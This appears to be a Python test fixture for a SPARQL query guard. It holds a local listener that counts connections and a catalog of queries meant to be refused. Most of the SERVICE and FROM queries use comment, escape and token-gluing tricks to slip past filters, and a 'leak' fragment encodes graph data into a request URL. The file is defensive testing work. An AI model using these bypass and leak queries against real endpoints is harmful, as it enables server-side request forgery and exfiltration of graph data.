"""Queries that would carry the graph to another machine, and a listener on this one that counts who comes."""

from __future__ import annotations

import socket
import threading
from types import TracebackType
from typing import Self


class Listener:
    """A port of this machine that takes every connection, answers it like an endpoint without rows, and counts."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self.heard: list[bytes] = []
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(1)
                try:
                    self.heard.append(connection.recv(2000))
                    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                except OSError:
                    self.heard.append(b"")

    def __enter__(self) -> Self:
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._socket.close()


_AT = "<http://127.0.0.1:PORT/x>"
_ANY = "{ ?s ?p ?o }"
_LEAK = "BIND(IRI(CONCAT('http://127.0.0.1:PORT/leak?',ENCODE_FOR_URI(STR(?t)))) AS ?e)"
_HERE = "PREFIX : <http://127.0.0.1:PORT/> PREFIX x: <http://127.0.0.1:PORT/> "

SERVICE = {
    "plain": f"SELECT * {{ SERVICE {_AT} {_ANY} }}",
    "small letters": f"SELECT * {{ service silent {_AT} {_ANY} }}",
    "a comment opens a string": f"# '''\nSELECT * {{ SERVICE {_AT} {_ANY} }}\n# '''",
    "a comment opens a string of the other kind": f'# """\nSELECT * {{ SERVICE {_AT} {_ANY} }}\n# """',
    "a comment opens a short string": f"# '\nSELECT * {{ SERVICE {_AT} {_ANY} }} # '",
    "a comment opens an IRI": f"# <\nSELECT * {{ SERVICE {_AT} {_ANY} }} # >",
    "a carriage return ends the comment": f"SELECT * {{ # x\rSERVICE {_AT} {_ANY} }}",
    "a carriage return and a string": f"SELECT * {{ # '''\rSERVICE {_AT} {_ANY} }} # '''",
    "comparisons around it": f"SELECT * {{ ?a ?b ?t {_LEAK} FILTER(1<2&&EXISTS{{SERVICE?e{{?s?p?o}}}}&&3>2) }} LIMIT 2",
    "a comparison that a comment makes an IRI": f"SELECT * {{ ?a ?b ?t {_LEAK} FILTER(1<2)SERVICE#x>\n?e{{?s?p?o}}}}",
    "the same of variables": f"SELECT * {{ ?a ?b ?t {_LEAK} FILTER(?a<?b||true)SERVICE#>\r?e {_ANY} }}",
    "an IRI that holds a quote": f"SELECT * {{ ?a ?b ?t {_LEAK} FILTER(?a<?b&&'x>'='x>'||1=1)SERVICE ?e {_ANY} }} # '",
    "before and after comparisons": f"SELECT * {{ ?a ?b ?t FILTER(1<2){_LEAK} SERVICE ?e {_ANY} FILTER(3>2) }}",
    "a comment between": f"SELECT * {{ SERVICE # so\n# and so\r{_AT} # on\n{_ANY} }}",
    "no space at all": f"SELECT*{{SERVICE{_AT}{{?s?p?o}}}}",
    "a name of the empty prefix": f"{_HERE}SELECT * {{SERVICE:x{_ANY}}}",
    "a name glued to it": f"{_HERE}SELECT * {{SERVICEx:y{_ANY}}}",
    "SILENT glued to it": f"{_HERE}SELECT * {{SERVICESILENTx:y{_ANY}}}",
    "glued to true": f"SELECT * {{ ?a ?b ?t {_LEAK} OPTIONAL {{ ?a ?c trueSERVICE?e{_ANY} }} SERVICE?e{_ANY} }}",
    "a full stop between": f"{_HERE}SELECT * {{ ?a ?b true.SERVICEx:y{_ANY} }}",
    "behind a word that is no name": f"{_HERE}SELECT * {{ ?a ?b false.trueSERVICE.service:y{_ANY} OPTIONAL {{ SERVICE:y{_ANY} }} }}",
    "glued to a number": f"{_HERE}SELECT * {{ ?a ?b 1SERVICEx:y{_ANY} }}",
    "glued to an exponent": f"{_HERE}SELECT * {{ ?a ?b 1e5SERVICEx:y{_ANY} }}",
    "after a semicolon": f"SELECT * {{ ?s ?p ?o ; SERVICE {_AT} {{ ?a ?b ?c }} }}",
    "after a comment that names a graph": f"{_HERE}SELECT * {{ # graph\nSERVICE:x {_ANY} }}",
    "letters as escapes": f"SELECT * {{ \\u0053ERVICE {_AT} {_ANY} }}",
    "letters as long escapes": f"SELECT * {{ \\U00000053\\u0045RVICE {_AT} {_ANY} }}",
    "a bracket as an escape": f"SELECT * \\u007b SERVICE {_AT} {_ANY} }}",
    "a line end as an escape": f"SELECT * {{ # x\\u000aSERVICE {_AT} {_ANY}\n}}",
    "a quote as an escape": f"SELECT * {{ ?a ?b '\\u0027 . SERVICE {_AT} {_ANY} }} # '",
    "an address with an escape": f"SELECT * {{ SERVICE <http://127.0.0.1:PORT/\\u0078> {_ANY} }}",
    "a relative address": f"BASE <http://127.0.0.1:PORT/> SELECT * {{ SERVICE <x> {_ANY} }}",
    "in a union": f"SELECT * {{ {_ANY} UNION {{ SERVICE {_AT} {_ANY} }} }}",
    "in an optional": f"SELECT * {{ ?a ?b ?c OPTIONAL {{ SERVICE {_AT} {_ANY} }} }}",
    "in a sub-select": f"SELECT * {{ {{ SELECT * {{ SERVICE {_AT} {_ANY} }} }} }}",
    "in NOT EXISTS": f"SELECT * {{ ?a ?b ?c FILTER NOT EXISTS {{ SERVICE {_AT} {_ANY} }} }}",
    "in a value that is bound": f"SELECT * {{ ?a ?b ?c BIND(EXISTS {{ SERVICE {_AT} {_ANY} }} AS ?x) }}",
    "in ASK": f"ASK {{ SERVICE {_AT} {_ANY} }}",
    "in CONSTRUCT": f"CONSTRUCT {_ANY} WHERE {{ SERVICE {_AT} {_ANY} }}",
    "in DESCRIBE": f"DESCRIBE ?s WHERE {{ SERVICE {_AT} {_ANY} }}",
    "in MINUS": f"SELECT * {{ ?s ?p ?o MINUS {{ SERVICE {_AT} {_ANY} }} }}",
    "in GRAPH": f"SELECT * {{ GRAPH ?g {{ ?a ?b ?c }} GRAPH ?g {{ SERVICE {_AT} {_ANY} }} }}",
    "in an aggregate's condition": f"SELECT (COUNT(*) AS ?n) {_ANY} GROUP BY ?s HAVING(EXISTS {{ SERVICE {_AT} {_ANY} }})",
    "behind a string with quotes": f"SELECT * {{ BIND('''a''b\\'''' AS ?x) SERVICE {_AT} {_ANY} }} # '",
    "behind a name with a quote": f"{_HERE}SELECT * {{ ?s x:it\\'s ?o SERVICE {_AT} {{ ?a ?b ?c }} }} # '",
    "behind a name with a number sign": f"{_HERE}SELECT * {{ ?s x:a\\#b ?o . SERVICE {_AT} {{ ?a ?b ?c }} }}",
    "with LATERAL": f"SELECT * {{ ?a ?b ?t LATERAL {{ SERVICE {_AT} {_ANY} }} }}",
}
"""Queries that ask another endpoint; each must be refused, whatever engine it is for. ``PORT`` stands for a port."""

OTHERS = {
    "FROM": "SELECT * FROM <http://127.0.0.1:PORT/x> { ?s ?p ?o }",
    "FROM NAMED": "SELECT * FROM NAMED <http://127.0.0.1:PORT/x> { GRAPH ?g { ?s ?p ?o } }",
    "FROM glued": "SELECT (1<2 AS ?x)FROM#>\n<http://127.0.0.1:PORT/x>{ ?s ?p ?o }",
    "FROM in CONSTRUCT": "CONSTRUCT FROM <http://127.0.0.1:PORT/x> WHERE { ?s ?p ?o }",
    "FROM in ASK": "ASK FROM <http://127.0.0.1:PORT/x> { ?s ?p ?o }",
    "FROM in DESCRIBE": "DESCRIBE <urn:a> FROM <http://127.0.0.1:PORT/x>",
    "FROM a file": "SELECT * FROM <file:///etc/hostname> { ?s ?p ?o }",
    "FROM with escapes": "SELECT * \\u0046ROM <http://127.0.0.1:PORT/x> { ?s ?p ?o }",
    "FROM a relative address": "BASE <http://127.0.0.1:PORT/> SELECT * FROM <x> { ?s ?p ?o }",
    "GRAPH": "SELECT * { GRAPH <http://127.0.0.1:PORT/x> { ?s ?p ?o } }",
    "LOAD": "LOAD <http://127.0.0.1:PORT/x>",
    "LOAD after a query": "SELECT * { ?s ?p ?o } ; LOAD <http://127.0.0.1:PORT/x>",
    "INSERT": "INSERT { ?s ?p ?o } WHERE { SERVICE <http://127.0.0.1:PORT/x> { ?s ?p ?o } }",
    "DESCRIBE": "DESCRIBE <http://127.0.0.1:PORT/x>",
}
"""Queries that an engine might read as an order to fetch; they may be refused or answered, and reach nothing."""

INNOCENT = {
    "in a string": "SELECT ?s { ?s ?p 'SERVICE <http://e.org/> { ?s ?p ?o }' }",
    "in a long string": "SELECT ?s { ?s ?p '''it's\n SERVICE <http://e.org/> { }''' . ?s ?q \"\"\"SERVICE ?e {\"\"\" }",
    "in a comment": "SELECT ?s { ?s ?p ?o # SERVICE <http://e.org/> { ?s ?p ?o }\n}",
    "in an IRI": "SELECT ?s { ?s <http://e.org/service> ?o . ?o <http://e.org/SERVICE#x> ?u }",
    "as a variable": "SELECT ?service { ?service ?p $SERVICE }",
    "as a prefix": "PREFIX service: <http://e.org/> SELECT * { ?s service:x ?o . GRAPH service:g { ?s ?p ?o } }",
    "as a local name": "PREFIX e: <http://e.org/> SELECT * { ?s e:service ?o . ?o e:SERVICE.x ?u OPTIONAL { ?u ?v ?w } }",
    "as a label and a language": "SELECT * { _:service ?p 'x'@en-service . OPTIONAL { ?u ?v ?w } }",
    "comparisons": "SELECT * { ?s ?p ?o FILTER(?s<?o&&?o>?s) OPTIONAL { ?o ?q 'SERVICE ?x {' } }",
}
"""Queries with that word that ask nobody."""
